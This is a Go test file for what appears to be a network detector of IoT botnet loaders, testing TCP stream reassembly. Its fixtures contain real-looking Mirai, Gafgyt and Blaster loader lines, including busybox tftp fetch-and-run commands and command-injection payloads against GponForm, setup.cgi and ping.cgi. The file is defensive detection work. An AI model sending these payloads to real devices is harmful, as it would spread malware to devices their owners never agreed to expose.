package wire

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/gopacket/gopacket"
	"github.com/gopacket/gopacket/layers"
	"github.com/gopacket/gopacket/pcapgo"

	"wormsink/evidence"
	"wormsink/internal/evidencetest"
	"wormsink/signatures"
)

// streamPcap writes segs from infected to victim as a pcap.
func streamPcap(t testing.TB, segs []tseg) []byte {
	var buf bytes.Buffer
	w := pcapgo.NewWriter(&buf)
	if err := w.WriteFileHeader(65535, layers.LinkTypeEthernet); err != nil {
		t.Fatal(err)
	}
	for i, s := range segs {
		data := tcpSeg(t, infected, victim, s)
		if err := w.WritePacket(gopacket.CaptureInfo{Timestamp: baseTime.Add(time.Duration(i) * time.Millisecond), CaptureLength: len(data), Length: len(data)}, data); err != nil {
			t.Fatal(err)
		}
	}
	return buf.Bytes()
}

// found is a stream's findings: signature/evidence, in order.
func found(evs []evidence.Event, sport uint16) []string {
	var out []string
	for _, ev := range evs {
		if ev.Port == sport {
			out = append(out, ev.Sig+"/"+ev.Evidence.String())
		}
	}
	return out
}

// scanBytes scans a pcap with one matcher and with a parallel scanner cut
// into tiny chunks (segments of a stream in different chunks and workers)
// and checks both record the same.
func scanBytes(t *testing.T, data []byte, opt Options) ([]evidence.Event, Stats) {
	t.Helper()
	var one, par evidencetest.Recorder
	m := NewMatcher(StaticSet{signatures.Default()}, &one, opt)
	if _, err := m.Scan(context.Background(), bytes.NewReader(data), "split.pcap"); err != nil {
		t.Fatal(err)
	}
	tinyChunks(t, 3, 4096)
	p := NewParallelScanner(StaticSet{signatures.Default()}, &par, opt, 3)
	if _, err := p.Scan(context.Background(), bytes.NewReader(data), "split.pcap"); err != nil {
		t.Fatal(err)
	}
	a, b := one.Events(), par.Events()
	if len(a) != len(b) {
		t.Errorf("one core: %d events, parallel: %d", len(a), len(b))
	}
	for i := range min(len(a), len(b)) {
		if fmt.Sprint(a[i]) != fmt.Sprint(b[i]) {
			t.Errorf("event %d: one core %s, parallel %s", i, short(a[i]), short(b[i]))
			break
		}
	}
	return a, m.Stats()
}

// loaderLines are command lines of one loader command each, as the
// loaders send them, with the port they go to.
var loaderLines = []struct {
	port uint16
	line string
}{
	{23, "/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 10.0.0.9; /bin/busybox chmod 777 dvrHelper\r\n"},
	{2323, "tftp -r axistftp2.sh -g 10.0.0.9\r\n"},
	{23, "\xff\xfd\x01\xff\xfb\x03/bin/busybox tftp -g -l .d -r mirai.mpsl 10.0.0.9\r\n"},
	{8080, "GET /setup.cgi?todo=syscmd&cmd=cd%20/tmp%3Bbusybox%20tftp%20-g%20-l%20d%20-r%20mirai.mips%2010.0.0.9%3Bsh%20d HTTP/1.1\r\nHost: 10.0.0.5:8080\r\n\r\n"},
	{80, "POST /GponForm/diag_Form?images/ HTTP/1.1\r\n\r\ndest_host=`cd${IFS}/tmp;tftp${IFS}-r${IFS}ukloltftp2.sh${IFS}-g${IFS}10.0.0.9;sh${IFS}ukloltftp2.sh`"},
	// Blaster types this into the shell it bound on 4444 (a content rule).
	{4444, "tftp -i 10.0.0.9 GET msblast.exe\r\n"},
	// A fetch of a name nobody lists: weak, once the command ends.
	{23, "tftp -g -r firmware.bin 10.0.0.9\r\n"},
}

// TestStreamSplitAtEveryOffset: a loader's command line split into two
// segments at every byte, and sent a byte a segment, is found exactly as
// the whole line in one segment is: the same signatures, once each, with
// the same strength; and scanning on several cores agrees.
func TestStreamSplitAtEveryOffset(t *testing.T) {
	for li, l := range loaderLines {
		whole, _ := scanBytes(t, streamPcap(t, []tseg{{sport: 50000, dport: l.port, seq: 1000, payload: l.line}}), Options{})
		want := found(whole, 50000)
		if len(want) != 1 {
			t.Fatalf("line %d whole: %v, want one finding", li, want)
		}
		var segs []tseg
		sport := uint16(1024)
		for k := 1; k < len(l.line); k++ {
			segs = append(segs, tseg{sport: sport, dport: l.port, seq: 7000, payload: l.line[:k]},
				tseg{sport: sport, dport: l.port, seq: 7000 + uint32(k), payload: l.line[k:]})
			sport++
		}
		// A byte a segment, as a shell echoing keystrokes sends it.
		bytewise := sport
		for k := range len(l.line) {
			segs = append(segs, tseg{sport: bytewise, dport: l.port, seq: 1<<32 - 20 + uint32(k), payload: l.line[k : k+1]})
		}
		evs, st := scanBytes(t, streamPcap(t, segs), Options{})
		for p := uint16(1024); p <= bytewise; p++ {
			if got := found(evs, p); !slices.Equal(got, want) {
				what := fmt.Sprintf("split at %d", p-1024+1)
				if p == bytewise {
					what = "a byte a segment"
				}
				t.Errorf("line %d %s: %v, want %v", li, what, got, want)
			}
		}
		if st.StreamJoined == 0 {
			t.Errorf("line %d: no segment joined to its stream's bytes", li)
		}
	}
}

// TestStreamRetransmitAndReorder: retransmitted segments (whole or
// overlapping the bytes already read) add nothing and change nothing; a
// retransmission carrying other bytes than the first copy cannot make a
// command of them; segments out of order are each read, in the order
// they complete the stream, never twice.
func TestStreamRetransmitAndReorder(t *testing.T) {
	line := "/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 10.0.0.9\r\n"
	const want = "mirai.tftp-loader/strong"
	cases := []struct {
		name string
		segs func(p uint16) []tseg
		want []string
	}{
		{"every segment twice", func(p uint16) []tseg {
			var s []tseg
			for k := 0; k < len(line); k += 7 {
				x := tseg{sport: p, dport: 23, seq: 100 + uint32(k), payload: line[k:min(k+7, len(line))]}
				s = append(s, x, x)
			}
			return s
		}, []string{want}},
		{"overlapping retransmission", func(p uint16) []tseg {
			return []tseg{{sport: p, dport: 23, seq: 100, payload: line[:20]}, {sport: p, dport: 23, seq: 100, payload: line[:40]},
				{sport: p, dport: 23, seq: 110, payload: line[10:]}, {sport: p, dport: 23, seq: 100, payload: line}}
		}, []string{want}},
		{"retransmission with other bytes", func(p uint16) []tseg {
			// The first copy is read; a "retransmission" naming a bot at
			// the same sequence numbers is not spliced in.
			return []tseg{{sport: p, dport: 23, seq: 100, payload: "echo tftp -g -l x -r "}, {sport: p, dport: 23, seq: 100, payload: "tftp -g -l x -r mirai"},
				{sport: p, dport: 23, seq: 121, payload: "firmware.bin 10.0.0.9\r\n"}}
		}, []string{"iot.tftp-dropper.generic/weak"}},
		{"two halves swapped", func(p uint16) []tseg {
			// Nothing says bytes come before the first segment seen (no
			// handshake), so it is read alone, and so is the late first
			// half; its retransmitted second half then continues it.
			return []tseg{{sport: p, dport: 23, seq: 130, payload: line[30:]}, {sport: p, dport: 23, seq: 100, payload: line[:30]},
				{sport: p, dport: 23, seq: 130, payload: line[30:]}}
		}, []string{want}},
		{"a segment late, then the rest", func(p uint16) []tseg {
			// The third segment is held until the late second one
			// arrives: the first line is read whole; then the line again.
			return []tseg{{sport: p, dport: 23, seq: 100, payload: line[:10]}, {sport: p, dport: 23, seq: 120, payload: line[20:]},
				{sport: p, dport: 23, seq: 110, payload: line[10:20]}, {sport: p, dport: 23, seq: 100 + uint32(len(line)), payload: line}}
		}, []string{want, want}},
	}
	for i, c := range cases {
		p := uint16(2000 + i)
		evs, _ := scanBytes(t, streamPcap(t, c.segs(p)), Options{})
		if got := found(evs, p); !slices.Equal(got, c.want) {
			t.Errorf("%s: %v, want %v", c.name, got, c.want)
		}
	}
}

// TestStreamLegitSplit: the legitimate traffic captures, every payload
// split at every byte, still make no evidence (the typed administrator's
// fetch only its one weak line, as whole).
func TestStreamLegitSplit(t *testing.T) {
	var segs []tseg
	var lines []string
	for _, f := range append(legitWeb(t), en(
		tcpTo(t, other, infected, 43001, 23, "copy tftp://10.0.0.9/c2960-lanbasek9-mz.bin flash:\r\n"),
		tcpTo(t, other, infected, 43003, 80, "GET /firmware/pxelinux.0 HTTP/1.1\r\nHost: boot.example\r\n\r\n"))...) {
		pk := gopacket.NewPacket(f.data, layers.LayerTypeEthernet, gopacket.Default)
		tcp := pk.Layer(layers.LayerTypeTCP).(*layers.TCP)
		lines = append(lines, string(tcp.Payload))
		port := uint16(tcp.DstPort)
		for k := 1; k < len(tcp.Payload); k++ {
			sp := uint16(10000 + len(segs)/2)
			segs = append(segs, tseg{sport: sp, dport: port, seq: 1, payload: string(tcp.Payload[:k])},
				tseg{sport: sp, dport: port, seq: 1 + uint32(k), payload: string(tcp.Payload[k:])})
		}
	}
	evs, _ := scanBytes(t, streamPcap(t, segs), Options{})
	for _, ev := range evs {
		t.Errorf("legit, split: %s (%s)", short(ev), ev.Evidence)
	}
	if len(lines) < 12 {
		t.Fatalf("only %d legit payloads", len(lines))
	}
}

// TestStreamFloodBounded: a flood of connections, each leaving an open
// command behind, cannot grow the table past its bound (entries × tail,
// allocated once) nor the heap; it only pushes streams out, counted; and a
// line split on a fresh connection after it is still found.
func TestStreamFloodBounded(t *testing.T) {
	var rec evidencetest.Recorder
	m := NewMatcher(StaticSet{signatures.Default()}, &rec, Options{Streams: 256, StreamTail: 256})
	at := baseTime
	pkt := func(src net.IP, s tseg) {
		at = at.Add(time.Microsecond)
		m.Packet(layers.LinkTypeEthernet, tcpSeg(t, src, victim, s), Meta{Time: at})
	}
	pkt(infected, tseg{sport: 1, dport: 23, seq: 1, payload: "t"})
	table := m.streams
	entries, bytesHeld := len(table.e), len(table.buf)
	if entries != 256 || bytesHeld != 2*256*256 {
		t.Fatalf("table of %d entries, %d bytes: want 256 and 131072", entries, bytesHeld)
	}
	frames := make([][]byte, 0, 4096)
	for i := range cap(frames) {
		src := net.IP{10, byte(i >> 8), byte(i), 1}
		// An open command that fetches nothing (yet): carried, and ends
		// without a finding when pushed out.
		frames = append(frames, tcpSeg(t, src, victim, tseg{sport: uint16(i), dport: 23, seq: 1, payload: "tftp -g -b " + strings.Repeat("A", 200)}))
	}
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	for round := range 25 { // 102,400 connections
		for i, f := range frames {
			at = at.Add(time.Microsecond)
			f[14+12] = byte(round) // a new source address each round
			_ = i
			m.Packet(layers.LinkTypeEthernet, f, Meta{Time: at})
		}
	}
	runtime.GC()
	runtime.ReadMemStats(&after)
	if m.streams != table || len(table.e) != entries || len(table.buf) != bytesHeld {
		t.Errorf("the table grew: %d entries, %d bytes", len(m.streams.e), len(m.streams.buf))
	}
	if grew := int64(after.HeapAlloc) - int64(before.HeapAlloc); grew > 1<<20 {
		t.Errorf("heap grew by %d bytes during the flood", grew)
	}
	if st := m.Stats(); st.StreamEvicted < 100_000 {
		t.Errorf("%d streams evicted, want nearly every flood connection", st.StreamEvicted)
	}
	if n := rec.Len(); n != 0 {
		t.Errorf("the flood made %d events", n)
	}
	// The loader typing slowly after the flood is still found.
	line := "tftp -g -r mirai.arm7 10.0.0.9\r\n"
	for k := range len(line) {
		pkt(infected, tseg{sport: 4000, dport: 23, seq: 9 + uint32(k), payload: line[k : k+1]})
	}
	if got := found(rec.Events(), 4000); !slices.Equal(got, []string{"mirai.tftp-loader/strong"}) {
		t.Errorf("after the flood: %v", got)
	}
}

// TestStreamNoAllocs: reading a stream a byte a segment allocates nothing
// once the table is made.
func TestStreamNoAllocs(t *testing.T) {
	m := NewMatcher(StaticSet{signatures.Default()}, evidencetest.Discard{}, Options{})
	line := "/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 10.0.0.9; echo ok\r\n"
	var frames [][]byte
	for k := range len(line) {
		frames = append(frames, tcpSeg(t, infected, victim, tseg{sport: 3000, dport: 23, seq: 1 + uint32(k), payload: line[k : k+1]}))
	}
	m.Packet(layers.LinkTypeEthernet, tcpSeg(t, infected, victim, tseg{sport: 1, dport: 23, seq: 1, payload: "t"}), Meta{Time: baseTime})
	at := baseTime
	i := 0
	a := testing.AllocsPerRun(len(frames)*4, func() {
		f := frames[i%len(frames)]
		// Each pass over the line is a new connection (its sequence
		// numbers move on), read in order.
		seq := uint32(1 + (i/len(frames))*len(line) + i%len(frames))
		f[14+20+4], f[14+20+5], f[14+20+6], f[14+20+7] = byte(seq>>24), byte(seq>>16), byte(seq>>8), byte(seq)
		at = at.Add(time.Millisecond)
		m.Packet(layers.LinkTypeEthernet, f, Meta{Time: at})
		i++
	})
	if a > 0 {
		t.Errorf("%.1f allocations per segment", a)
	}
	if st := m.Stats(); st.StreamJoined == 0 || st.Events == 0 {
		t.Errorf("stats %+v: the segments were not joined and matched", st)
	}
}

// TestStreamNoAllocsReorderedAndIdle: holding a reordered segment and
// reading it when the gap fills, the short path of a web segment, a late
// segment joined to a stream's first bytes, and streams ended when idle
// or pushed out allocate nothing either.
func TestStreamNoAllocsReorderedAndIdle(t *testing.T) {
	m := NewMatcher(StaticSet{signatures.Default()}, evidencetest.Discard{}, Options{Streams: 8})
	line := "/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 10.0.0.9; echo ok\r\n"
	web := "GET /index.html HTTP/1.1\r\nHost: www.example.com\r\nAccept: */*\r\n\r\n"
	var frames [][]byte
	var gaps []time.Duration
	add := func(gap time.Duration, s tseg) {
		frames = append(frames, tcpSeg(t, infected, victim, s))
		gaps = append(gaps, gap)
	}
	for c := range uint16(12) { // more connections than entries: some pushed out
		p := 3000 + c
		add(0, tseg{sport: p, dport: 23, seq: 100, payload: "\xff\xfd\x01"})
		add(0, tseg{sport: p, dport: 23, seq: 123, payload: line[20:]})
		add(0, tseg{sport: p, dport: 23, seq: 103, payload: line[:20]})
		add(0, tseg{sport: p + 100, dport: 80, seq: 1, payload: web})
		add(0, tseg{sport: p + 100, dport: 80, seq: 1 + uint32(len(web)), payload: web})
		add(0, tseg{sport: p + 200, dport: 23, seq: 520, payload: line[20:]})
		add(0, tseg{sport: p + 200, dport: 23, seq: 500, payload: line[:20]})
		add(0, tseg{sport: p + 300, dport: 23, seq: 1, payload: "tftp -g -r firmware.bin 10.0.0.9"})
	}
	gaps[0] = 10 * time.Minute // every pass ends the last one's streams as idle
	at := baseTime
	m.Packet(layers.LinkTypeEthernet, frames[0], Meta{Time: at})
	i := 0
	a := testing.AllocsPerRun(len(frames)*3, func() {
		at = at.Add(time.Millisecond + gaps[i%len(frames)])
		m.Packet(layers.LinkTypeEthernet, frames[i%len(frames)], Meta{Time: at})
		i++
	})
	if a > 0 {
		t.Errorf("%.1f allocations per segment", a)
	}
	if st := m.Stats(); st.StreamHeld == 0 || st.StreamEnded == 0 || st.StreamEvicted == 0 || st.Events == 0 {
		t.Errorf("stats %+v: want segments held, streams ended and pushed out, events", st)
	}
}

// TestStreamEndOfCapture: a command still open when the capture file ends
// (the loader's line is the last thing in it, no separator after) is read
// as complete there, as its sender's FIN would have it read: an unlisted
// fetch is weak once, at its last segment; a listed name found while the
// command was open is not found again; a FIN ends the command at once.
func TestStreamEndOfCapture(t *testing.T) {
	segs := []tseg{
		{sport: 6001, dport: 23, seq: 1, payload: "tftp -g -r firmware.bin 10.0.0.9"},
		{sport: 6002, dport: 80, seq: 1, payload: "cmd=busybox+tftp+-g+-r+mirai.arm7+10.0.0.9"},
		{sport: 6003, dport: 23, seq: 1, payload: "tftp -g -r t"},
		{sport: 6003, dport: 23, seq: 13, payload: "ftp1.sh 10.0.0.9"},
		{sport: 6004, dport: 23, seq: 1, payload: "tftp -g -r x.bin 10.0.0.9"},
		{sport: 6004, dport: 23, seq: 26, fin: true},
	}
	evs, _ := scanBytes(t, streamPcap(t, segs), Options{})
	for port, want := range map[uint16][]string{
		6001: {"iot.tftp-dropper.generic/weak"},
		6002: {"mirai.tftp-loader/strong"},
		6003: {"gafgyt.tftp-loader/strong"},
		6004: {"iot.tftp-dropper.generic/weak"},
	} {
		if got := found(evs, port); !slices.Equal(got, want) {
			t.Errorf("port %d: %v, want %v", port, got, want)
		}
	}
	for _, ev := range evs {
		if want := map[uint16]uint64{6001: 1, 6002: 2, 6003: 4, 6004: 6}[ev.Port]; ev.Packet != want || ev.PCAP != "split.pcap" || !ev.Time.Equal(baseTime.Add(time.Duration(want-1)*time.Millisecond)) {
			t.Errorf("%s at packet %d (%s), want packet %d", short(ev), ev.Packet, ev.Time, want)
		}
	}
}

// TestStreamOpenCommandEnds: a fetch of an unlisted name left open (no
// separator after it, no FIN, the connection kept) is reported weak when
// its stream goes idle, at its last segment and before what the capture
// holds after that, and when a flood pushes its stream out of the table;
// a name typed a key at a time and completed within the idle time is
// never reported by its first letters.
func TestStreamOpenCommandEnds(t *testing.T) {
	segs := []tseg{
		{sport: 7001, dport: 23, seq: 1, payload: "tftp -g -r firmware.bin 10.0.0.9"},
		{sport: 7002, dport: 23, seq: 1, payload: "tftp -g -r t"},
		{sport: 7002, dport: 23, seq: 13, payload: "ftp1.sh 10.0.0.9"},
	}
	// Six minutes later (streamPcap spaces packets a millisecond apart).
	for range 6 * 60 * 1000 / 1 / 1000 {
		segs = append(segs, tseg{sport: 9, dport: 9, seq: 1, payload: "."})
	}
	evs, _ := scanBytes(t, streamIdlePcap(t, segs, map[int]time.Duration{3: 6 * time.Minute}), Options{})
	got := found(evs, 7001)
	if !slices.Equal(got, []string{"iot.tftp-dropper.generic/weak"}) {
		t.Fatalf("idle open command: %v", got)
	}
	if got := found(evs, 7002); !slices.Equal(got, []string{"gafgyt.tftp-loader/strong"}) {
		t.Errorf("typed a key at a time: %v, want the strong finding alone", got)
	}
	for _, ev := range evs {
		if ev.Port == 7001 && (ev.Packet != 1 || !ev.Time.Equal(baseTime)) {
			t.Errorf("idle command reported at packet %d (%s), want its own, packet 1", ev.Packet, ev.Time)
		}
	}

	// The idle end comes in capture time: a loader line six minutes later
	// is recorded after it, not before (as it would be at the file's end).
	segs = []tseg{
		{sport: 7011, dport: 23, seq: 1, payload: "tftp -g -r firmware.bin 10.0.0.9"},
		{sport: 7012, dport: 23, seq: 1, payload: "tftp -g -r mirai.arm7 10.0.0.9\r\n"},
	}
	evs, _ = scanBytes(t, streamIdlePcap(t, segs, map[int]time.Duration{1: 6 * time.Minute}), Options{})
	var order []string
	for _, ev := range evs {
		order = append(order, fmt.Sprintf("%d:%s", ev.Port, ev.Sig))
	}
	if want := []string{"7011:iot.tftp-dropper.generic", "7012:mirai.tftp-loader"}; !slices.Equal(order, want) {
		t.Errorf("events %v, want %v", order, want)
	}

	// Pushed out: a table of one set of four, five streams with open
	// commands: the first is reported when the fifth takes its entry.
	segs = []tseg{{sport: 7021, dport: 23, seq: 1, payload: "tftp -g -r pushed.bin 10.0.0.9"}}
	for p := uint16(7022); p < 7026; p++ {
		segs = append(segs, tseg{sport: p, dport: 23, seq: 1, payload: "tftp -g -b 512"})
	}
	segs = append(segs, tseg{sport: 7030, dport: 23, seq: 1, payload: "tftp -g -r mirai.arm7 10.0.0.9\r\n"})
	evs, st := scanBytes(t, streamPcap(t, segs), Options{Streams: 4})
	order = order[:0]
	for _, ev := range evs {
		order = append(order, fmt.Sprintf("%d:%s", ev.Port, ev.Sig))
	}
	if want := []string{"7021:iot.tftp-dropper.generic", "7030:mirai.tftp-loader"}; !slices.Equal(order, want) {
		t.Errorf("pushed out: events %v, want %v", order, want)
	}
	if st.StreamEvicted == 0 || st.StreamEnded == 0 {
		t.Errorf("stats %+v: no stream pushed out and ended", st)
	}
}

// streamIdlePcap is streamPcap with the packets from index i on moved
// later by gap[i].
func streamIdlePcap(t testing.TB, segs []tseg, gap map[int]time.Duration) []byte {
	var buf bytes.Buffer
	w := pcapgo.NewWriter(&buf)
	if err := w.WriteFileHeader(65535, layers.LinkTypeEthernet); err != nil {
		t.Fatal(err)
	}
	var shift time.Duration
	for i, s := range segs {
		shift += gap[i]
		data := tcpSeg(t, infected, victim, s)
		at := baseTime.Add(time.Duration(i)*time.Millisecond + shift)
		if err := w.WritePacket(gopacket.CaptureInfo{Timestamp: at, CaptureLength: len(data), Length: len(data)}, data); err != nil {
			t.Fatal(err)
		}
	}
	return buf.Bytes()
}

// longCommands are loader lines longer than a stream's carried tail, with
// the finding each must give.
var longCommands = []struct {
	port       uint16
	line, want string
}{
	// A telnet line chaining many commands before the fetch.
	{23, strings.Repeat("cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; ", 14) +
		"wget http://10.0.0.9/bins/x.sh; tftp -g -r mirai.arm7 10.0.0.9; chmod 777 mirai.arm7; ./mirai.arm7 telnet\r\n", "mirai.tftp-loader/strong"},
	// An exploit's URL-encoded body: no raw separator, only %20 spaces.
	{80, "POST /cgi-bin/ping.cgi HTTP/1.1\r\nHost: 10.0.0.5\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nip=127.0.0.1%20" +
		strings.Repeat("x%20", 220) + "cd%20%2Ftmp%20%26%26%20busybox%20tftp%20-g%20-l%20d%20-r%20mirai.mips%2010.0.0.9", "mirai.tftp-loader/strong"},
	// A JSON body whose string holds many words before the command.
	{8080, "POST /api/diag HTTP/1.1\r\nHost: 10.0.0.5\r\n\r\n{\"host\":\"" + strings.Repeat("padding ", 90) +
		" tftp -g -r tftp1.sh 10.0.0.9\"}", "gafgyt.tftp-loader/strong"},
	// ${IFS}-spaced, no separator before the fetch; an unlisted name.
	{80, "GET /x?c=" + strings.Repeat("${IFS}nop", 80) + "${IFS}tftp${IFS}-g${IFS}-r${IFS}update.bin${IFS}10.0.0.9 HTTP/1.1\r\n\r\n", "iot.tftp-dropper.generic/weak"},
	// One fetch command longer than the tail: a long local name and the
	// URL-encoding of every byte of it (up to twice the tail is read).
	{80, "POST /goform/exec HTTP/1.1\r\n\r\ncmd=busybox%20tftp%20-g%20-l%20" + strings.Repeat("%2E%61", 110) +
		"%20-r%20mirai.arm7%2010.0.0.9", "mirai.tftp-loader/strong"},
}

// TestStreamLongCommand: a command line longer than the carried tail
// (512 bytes) is found once however it is cut into segments: at every
// size from a byte up, and at every offset into two.
func TestStreamLongCommand(t *testing.T) {
	for li, l := range longCommands {
		if len(l.line) <= DefaultStreamTail+64 {
			t.Fatalf("line %d is only %d bytes", li, len(l.line))
		}
		whole, _ := scanBytes(t, streamPcap(t, []tseg{{sport: 50000, dport: l.port, seq: 1000, payload: l.line}}), Options{})
		if got := found(whole, 50000); !slices.Equal(got, []string{l.want}) {
			t.Fatalf("line %d whole: %v, want %s", li, got, l.want)
		}
		var segs []tseg
		sport := uint16(1024)
		for _, size := range []int{1, 7, 64, 200, 511, 512, 513, 536} {
			for k := 0; k < len(l.line); k += size {
				segs = append(segs, tseg{sport: sport, dport: l.port, seq: 5000 + uint32(k), payload: l.line[k:min(k+size, len(l.line))]})
			}
			sport++
		}
		for k := 1; k < len(l.line); k += 3 {
			segs = append(segs, tseg{sport: sport, dport: l.port, seq: 7000, payload: l.line[:k]},
				tseg{sport: sport, dport: l.port, seq: 7000 + uint32(k), payload: l.line[k:]})
			sport++
		}
		evs, st := scanBytes(t, streamPcap(t, segs), Options{})
		for p := uint16(1024); p < sport; p++ {
			if got := found(evs, p); !slices.Equal(got, []string{l.want}) {
				t.Errorf("line %d, stream %d: %v, want %s", li, p-1024, got, l.want)
			}
		}
		if st.StreamLost != 0 {
			t.Errorf("line %d: %d commands lost", li, st.StreamLost)
		}
	}
}

// TestStreamLongCommandFloodBounded: connections that each send a long
// open line (longer than the tail, segment after segment) keep the table
// at its size and the heap still, make no evidence, and lose nothing.
func TestStreamLongCommandFloodBounded(t *testing.T) {
	var rec evidencetest.Recorder
	m := NewMatcher(StaticSet{signatures.Default()}, &rec, Options{Streams: 256, StreamTail: 256})
	at := baseTime
	// 480 bytes a segment, never a command, ending in a word the next
	// segment continues.
	body := strings.Repeat("x%20t%20", 59) + "x%20%tf"
	var frames [][]byte
	for i := range 1024 {
		src := net.IP{10, 1, byte(i >> 8), byte(i)}
		for k := range 4 {
			frames = append(frames, tcpSeg(t, src, victim, tseg{sport: uint16(1000 + i), dport: 80, seq: 1 + uint32(k*len(body)), payload: body}))
		}
	}
	m.Packet(layers.LinkTypeEthernet, frames[0], Meta{Time: at})
	table := m.streams
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	for round := range 10 {
		for _, f := range frames {
			at = at.Add(time.Microsecond)
			f[14+12] = byte(round + 20) // other connections each round
			m.Packet(layers.LinkTypeEthernet, f, Meta{Time: at})
		}
	}
	runtime.GC()
	runtime.ReadMemStats(&after)
	if m.streams != table || len(table.buf) != 2*256*256 {
		t.Errorf("the table grew: %d bytes", len(m.streams.buf))
	}
	if grew := int64(after.HeapAlloc) - int64(before.HeapAlloc); grew > 1<<20 {
		t.Errorf("heap grew by %d bytes", grew)
	}
	if st := m.Stats(); st.StreamLost != 0 || st.StreamJoined == 0 {
		t.Errorf("stats %+v: want segments joined and nothing lost", st)
	}
	if n := rec.Len(); n != 0 {
		t.Errorf("%d events", n)
	}
}

// TestStreamReordered: a line whose second part arrives before its first
// is read once, whole, as a TCP receiver would (the second part held until
// the gap fills): mid-stream at every cut, and as a connection's first
// bytes when the handshake says where they start. A gap never filled
// reads what was held afresh, as before.
func TestStreamReordered(t *testing.T) {
	for li, l := range loaderLines {
		whole, _ := scanBytes(t, streamPcap(t, []tseg{{sport: 50000, dport: l.port, seq: 1000, payload: l.line}}), Options{})
		want := found(whole, 50000)
		if !signatures.Default().PayloadPort(signatures.TCP, l.port) || l.port == 4444 {
			// A content rule's port (Blaster's shell): its option bytes
			// are read alone (nothing in them can start its content), so
			// nothing says the next segment is not the stream's first.
			continue
		}
		var segs []tseg
		sport := uint16(1024)
		for k := 1; k < len(l.line); k++ {
			// Telnet option bytes first, then the line's halves swapped.
			segs = append(segs, tseg{sport: sport, dport: l.port, seq: 100, payload: "\xff\xfd\x01"},
				tseg{sport: sport, dport: l.port, seq: 103 + uint32(k), payload: l.line[k:]},
				tseg{sport: sport, dport: l.port, seq: 103, payload: l.line[:k]})
			sport++
		}
		evs, st := scanBytes(t, streamPcap(t, segs), Options{})
		for p := uint16(1024); p < sport; p++ {
			if got := found(evs, p); !slices.Equal(got, want) {
				t.Errorf("line %d swapped at %d: %v, want %v", li, p-1024+1, got, want)
			}
		}
		if st.StreamHeld == 0 {
			t.Errorf("line %d: nothing held", li)
		}
	}

	// The line's halves swapped as a connection's very first bytes, no
	// handshake seen: the second half is read as the stream's start, and
	// the first, arriving to end where it began, is read together with
	// its first command; what that command gave alone is not given again.
	for li, l := range loaderLines {
		whole, _ := scanBytes(t, streamPcap(t, []tseg{{sport: 50000, dport: l.port, seq: 1000, payload: l.line}}), Options{})
		want := found(whole, 50000)
		var segs []tseg
		sport := uint16(1024)
		for k := 1; k < len(l.line); k++ {
			segs = append(segs, tseg{sport: sport, dport: l.port, seq: 5000 + uint32(k), payload: l.line[k:]},
				tseg{sport: sport, dport: l.port, seq: 5000, payload: l.line[:k]},
				tseg{sport: sport, dport: l.port, seq: 5000, payload: l.line[:k]}) // and its retransmission
			sport++
		}
		evs, _ := scanBytes(t, streamPcap(t, segs), Options{})
		for p := uint16(1024); p < sport; p++ {
			if got := found(evs, p); !slices.Equal(got, want) {
				t.Errorf("line %d, first bytes swapped at %d: %v, want %v", li, p-1024+1, got, want)
			}
		}
	}

	// Three parts, the middle one first, no handshake: the first part is
	// read with the middle one as the stream's start, and the last
	// continues them.
	for li, l := range loaderLines {
		whole, _ := scanBytes(t, streamPcap(t, []tseg{{sport: 50000, dport: l.port, seq: 1000, payload: l.line}}), Options{})
		want := found(whole, 50000)
		var segs []tseg
		sport := uint16(1024)
		for a := 1; a < len(l.line)-1; a += 3 {
			for b := a + 1; b < len(l.line); b += 7 {
				segs = append(segs, tseg{sport: sport, dport: l.port, seq: 5000 + uint32(a), payload: l.line[a:b]},
					tseg{sport: sport, dport: l.port, seq: 5000, payload: l.line[:a]},
					tseg{sport: sport, dport: l.port, seq: 5000 + uint32(b), payload: l.line[b:]})
				sport++
			}
		}
		evs, _ := scanBytes(t, streamPcap(t, segs), Options{})
		for p := uint16(1024); p < sport; p++ {
			if got := found(evs, p); !slices.Equal(got, want) {
				t.Errorf("line %d, middle first (stream %d): %v, want %v", li, p-1024, got, want)
			}
		}
	}
	// A fetch left open (no separator), its halves swapped, no handshake:
	// weak once, at the capture's end.
	open := "tftp -g -r firmware.bin 10.0.0.9"
	for k := 1; k < len(open); k++ {
		p := uint16(30000 + k)
		evs, _ := scanBytes(t, streamPcap(t, []tseg{{sport: p, dport: 23, seq: 70 + uint32(k), payload: open[k:]},
			{sport: p, dport: 23, seq: 70, payload: open[:k]}}), Options{})
		if got := found(evs, p); !slices.Equal(got, []string{"iot.tftp-dropper.generic/weak"}) {
			t.Errorf("open fetch swapped at %d: %v", k, got)
		}
	}

	// Mid-stream, a segment too big to hold arrives before the one that
	// starts the line: it is read at once, as a fresh start, and the late
	// one is read with its first bytes.
	big := " -r mirai.arm7 10.0.0.9; " + strings.Repeat("echo padding; ", 60)
	for k, first := range []string{"/bin/busybox tftp -g -l d", "tftp -g", "x; busybox tftp -g"} {
		p := uint16(31000 + k)
		evs, st := scanBytes(t, streamPcap(t, []tseg{{sport: p, dport: 23, seq: 100, payload: "\xff\xfd\x01"},
			{sport: p, dport: 23, seq: 103 + uint32(len(first)), payload: big},
			{sport: p, dport: 23, seq: 103, payload: first}}), Options{})
		if got := found(evs, p); !slices.Equal(got, []string{"mirai.tftp-loader/strong"}) {
			t.Errorf("%q before a big segment: %v", first, got)
		}
		if st.StreamGaps == 0 {
			t.Errorf("%q: the big segment was held (%d bytes)", first, len(big))
		}
	}

	// A web request's header segment, then its body's halves swapped.
	body := "cmd=cd%20/tmp%3Bbusybox%20tftp%20-g%20-l%20d%20-r%20mirai.mips%2010.0.0.9%3Bsh%20d"
	head := "POST /setup.cgi HTTP/1.1\r\nHost: 10.0.0.5\r\nContent-Length: 84\r\n\r\n"
	for k := 1; k < len(body); k++ {
		p := uint16(20000 + k)
		segs := []tseg{{sport: p, dport: 80, seq: 1, payload: head},
			{sport: p, dport: 80, seq: 1 + uint32(len(head)+k), payload: body[k:]},
